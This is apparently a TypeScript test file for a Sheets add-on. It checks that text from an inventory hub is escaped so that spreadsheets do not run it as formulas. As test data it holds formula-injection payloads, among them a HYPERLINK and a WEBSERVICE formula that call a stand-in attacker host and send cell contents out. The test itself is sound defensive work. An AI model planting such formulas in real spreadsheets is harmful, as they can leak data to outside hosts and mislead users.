/**
 * Issue #15, item 20: the add-on wrote SKUs and titles with setValues into the Reorder and Dashboard
 * tabs, so a SKU starting with "=" became a formula in the supplier's sheet. Every text the add-on
 * writes now goes through one helper (appsscript/src/cells.ts) with the rule of the hub's CSV
 * export (server/reports/reports.ts csvField): a leading =, +, -, @, tab or CR is written behind an
 * apostrophe, which Sheets keeps as plain text. The fake sheet takes such a text as a formula,
 * as Sheets does.
 */
import { safeCell, safeRows } from '../../appsscript/src/cells';
import { csvField } from '../../server/reports/reports';
import { pasteInto, type FakeSheet } from './fakes/gas';
import { catalog, rig } from './fakes/env';

const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+SUM(1,2)', '-2+3', '@IMPORTRANGE', '\t=1+1', '\r=1+1', "=IMAGE(\"x\")"];

/** Every formula in a tab (there must be none: the add-on writes values only). */
const formulas = (s: FakeSheet) => (s.getLastRow() ? s.getRange(1, 1, s.getLastRow(), Math.max(1, s.getLastColumn())).formulas() : []);

test('the rule is the CSV export’s: the same texts are protected, plain numbers and ordinary text are left alone', () => {
  const samples = [...HOSTILE, '-3', '-3.5', '+61 400 000 000', '=', 'ART-0001', 'Ngayu — ochre on bark', '', '12', ' =padded'];
  for (const s of samples) expect([s, String(safeCell(s)).startsWith("'") && !s.startsWith("'")]).toEqual([s, csvField(s).replace(/^"|"$/g, '').startsWith("'")]);
  expect(safeCell(-3)).toBe(-3);
  expect(safeCell(null)).toBeNull();
  const d = new Date();
  expect(safeCell(d)).toBe(d);
  expect(safeRows([['=1', 2, 'ok']])).toEqual([["'=1", 2, 'ok']]);
});

test('SKUs, titles and channel names from the hub land in the Reorder and Dashboard tabs as text, never as formulas', () => {
  const { env, hub, addon } = rig();
  hub.reorder = {
    generatedAt: '2026-12-05T06:00:00.000Z',
    windowDays: 28,
    items: HOSTILE.map((sku, i) => ({ sku, title: HOSTILE[(i + 1) % HOSTILE.length], available: 3, incoming: 0, velocityPerDay: 1, inStockDays: 28, leadTimeDays: 14, safetyStock: 1, reorderPoint: 15, suggestedQuantity: 12, daysOfCover: 3, belowLeadTime: true })),
  };
  hub.dashboard = {
    from: '2026-11-29',
    to: '2026-12-05',
    currency: 'AUD',
    days: [{ day: '2026-11-29', units: 2, orders: 1, returned: 0, revenue: [{ currency: 'AUD', amount: 1000 }] }],
    channels: [{ channelId: 'c1', name: '=WEBSERVICE("https://evil.example")', units: 2, orders: 1, revenue: [{ currency: 'AUD', amount: 1000 }] }],
    skus: HOSTILE.map((sku) => ({ sku, title: '+cmd', units: 1, returned: 0, revenue: [{ currency: 'AUD', amount: 100 }] })),
    totals: { units: 2, orders: 1, returned: 0, returnsRate: 0, sellThrough: 0.5, revenue: [{ currency: 'AUD', amount: 1000 }] },
  };
  addon.menuRefreshDashboard();
  const reorder = env.ss.getSheetByName('Reorder')!;
  const dash = env.ss.getSheetByName('Dashboard')!;
  expect(formulas(reorder)).toEqual([]);
  expect(formulas(dash)).toEqual([]);
  // What was kept is the text as the hub sent it.
  const reorderSkus = reorder.values().slice(1).map((r) => r[0]);
  expect(reorderSkus.sort()).toEqual([...HOSTILE].sort());
  const dashText = dash.values().flat();
  for (const sku of HOSTILE) expect(dashText).toContain(sku);
  expect(dashText).toContain('=WEBSERVICE("https://evil.example")');
  // Numbers stay numbers.
  expect(reorder.values()[1]![2]).toBe(3);
});

test('purchase order Status and Reason, and a count put back in the Catalog, are written as text too', () => {
  const { env, hub, addon } = rig();
  const po = env.ss.insertSheet('Purchase Orders');
  po.getRange(1, 1, 1, 11).setValues([['PO number', 'Customer', 'SKU', 'Quantity', 'Location', 'Needed by', 'Status', 'Reserved', 'Waiting', 'Reason', 'Updated']]);
  po.getRange(2, 1, 1, 5).setValues([['PO-9', 'Acme', 'ART-1', 2, 'gallery']]);
  hub.relayAnswer = () => ({ eventId: 1, status: 'rejected', results: [{ sku: 'ART-1', result: 'rejected', message: '=HYPERLINK("https://evil.example","unknown SKU")' }], message: 'rejected' });
  addon.menuSendPurchaseOrders();
  expect(formulas(po)).toEqual([]);
  expect(po.getRange('J2').getValue()).toBe('=HYPERLINK("https://evil.example","unknown SKU")');

  // A text pasted over a count whose old value was itself text starting with "=" is put back as text.
  const sheet = catalog(env, ['SKU', 'On hand · gallery'], [['ART-1', "'=1+1"]]);
  expect(sheet.getRange('B2').getValue()).toBe('=1+1');
  addon.onSheetEdit({ ...pasteInto(env, 'Catalog', 'B2', 'lots'), oldValue: '=1+1' });
  expect(formulas(sheet)).toEqual([]);
  expect(sheet.getRange('B2').getValue()).toBe('=1+1');
});
